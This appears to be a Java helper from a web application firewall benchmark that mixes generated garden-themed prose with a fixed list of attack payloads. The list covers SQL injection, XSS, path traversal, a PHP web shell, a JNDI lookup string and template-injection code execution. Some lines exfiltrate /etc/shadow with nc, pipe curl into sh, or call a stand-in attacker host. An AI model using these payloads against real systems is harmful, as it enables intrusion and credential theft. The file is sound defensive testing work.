package dev.bulwark.waf.bench;

import java.util.SplittableRandom;

/**
 * Deterministic text for the benchmarks: benign English-like prose, and the same prose with
 * attack payloads (SQL injection, XSS, path traversal, command and code injection) mixed in.
 * A fixed seed makes every run inspect the same bytes.
 */
final class BenchTexts {

    /** Everyday words; SQL and shell keywords are deliberately rare so benign text stays benign. */
    private static final String[] WORDS = {
        "the", "a", "we", "our", "team", "shipped", "new", "version", "of", "garden", "planner",
        "last", "week", "and", "it", "now", "supports", "seasonal", "reminders", "for", "watering",
        "tomatoes", "beans", "herbs", "you", "can", "share", "your", "beds", "with", "friends",
        "family", "neighbours", "thanks", "to", "everyone", "who", "sent", "feedback", "about",
        "layout", "colours", "small", "screens", "is", "faster", "than", "before", "photos",
        "load", "in", "background", "while", "notes", "stay", "on", "device", "until", "sync",
        "finishes", "please", "tell", "us", "what", "works", "well", "which", "parts", "feel",
        "slow", "confusing", "next", "month", "plan", "add", "compost", "tracking", "weather",
        "alerts", "better", "printing", "support", "quiet", "mornings", "are", "best", "time",
        "check", "soil", "after", "rain", "leaves", "turn", "yellow", "when", "roots", "sit",
        "water", "too", "long", "so", "raised", "beds", "help", "drainage", "many", "readers",
        "asked", "seeds", "saving", "swapping", "local", "library", "hosts", "market", "every",
        "saturday", "morning", "near", "station", "bring", "jars", "labels", "pencil", "coffee",
        "will", "be", "there", "children", "welcome", "bicycle", "parking", "behind", "hall",
        "this", "year", "harvest", "was", "generous", "despite", "dry", "summer", "pumpkins",
        "grew", "huge", "carrots", "stayed", "tiny", "lessons", "learned", "mulch", "early",
        "thin", "seedlings", "patiently", "keep", "records", "simple",
    };

    /** Attack payloads written for this benchmark; each is typical of one CRS attack class. */
    private static final String[] PAYLOADS = {
        "' OR '1'='1' -- ",
        "<script>alert(document.cookie)</script>",
        "../../../../etc/passwd",
        "; cat /etc/shadow | nc 203.0.113.7 4444",
        "1 UNION SELECT username, password FROM users--",
        "<?php system($_GET['cmd']); ?>",
        "${jndi:ldap://203.0.113.7:1389/a}",
        "<img src=x onerror=alert(1)>",
        "admin'/**/AND/**/SLEEP(5)#",
        "..\\..\\windows\\win.ini",
        "$(curl -s http://203.0.113.7/x.sh | sh)",
        "javascript:alert('x')",
        "http://169.254.169.254/latest/meta-data/",
        "1; DROP TABLE orders; --",
        "<svg/onload=fetch('//evil.example/'+document.domain)>",
        "{{7*7}}${T(java.lang.Runtime).getRuntime().exec('id')}",
    };

    private BenchTexts() {
    }

    /** Benign prose of exactly {@code length} characters. */
    static String benign(int length, long seed) {
        StringBuilder sb = new StringBuilder(length + 64);
        SplittableRandom rnd = new SplittableRandom(seed);
        appendProse(sb, rnd, length);
        sb.setLength(length);
        return sb.toString();
    }

    /**
     * Prose of exactly {@code length} characters with a payload after roughly every 140
     * characters of prose (so even 1 KB holds several attack classes).
     */
    static String attack(int length, long seed) {
        StringBuilder sb = new StringBuilder(length + 256);
        SplittableRandom rnd = new SplittableRandom(seed);
        int next = 0;
        while (sb.length() < length) {
            appendProse(sb, rnd, sb.length() + 80 + rnd.nextInt(120));
            sb.append(' ').append(PAYLOADS[next]).append(' ');
            next = (next + 1) % PAYLOADS.length;
        }
        sb.setLength(length);
        return sb.toString();
    }

    /** Appends prose words until {@code sb} is at least {@code untilLength} long. */
    static void appendProse(StringBuilder sb, SplittableRandom rnd, int untilLength) {
        boolean sentenceStart = sb.length() == 0 || endsSentence(sb);
        while (sb.length() < untilLength) {
            if (sb.length() > 0 && sb.charAt(sb.length() - 1) != ' ') {
                sb.append(' ');
            }
            String w = WORDS[rnd.nextInt(WORDS.length)];
            if (sentenceStart) {
                sb.append(Character.toUpperCase(w.charAt(0))).append(w, 1, w.length());
                sentenceStart = false;
            } else {
                sb.append(w);
            }
            int r = rnd.nextInt(100);
            if (r < 8) {
                sb.append('.');
                sentenceStart = true;
            } else if (r < 12) {
                sb.append(',');
            } else if (r < 14) {
                sb.append(' ').append(1 + rnd.nextInt(40));
            }
        }
    }

    /** Words of prose for form fields and JSON strings: {@code count} words, lower case. */
    static String words(SplittableRandom rnd, int count) {
        StringBuilder sb = new StringBuilder(count * 7);
        for (int i = 0; i < count; i++) {
            if (i > 0) {
                sb.append(' ');
            }
            sb.append(WORDS[rnd.nextInt(WORDS.length)]);
        }
        return sb.toString();
    }

    private static boolean endsSentence(StringBuilder sb) {
        int i = sb.length() - 1;
        while (i >= 0 && sb.charAt(i) == ' ') {
            i--;
        }
        return i < 0 || sb.charAt(i) == '.';
    }
}
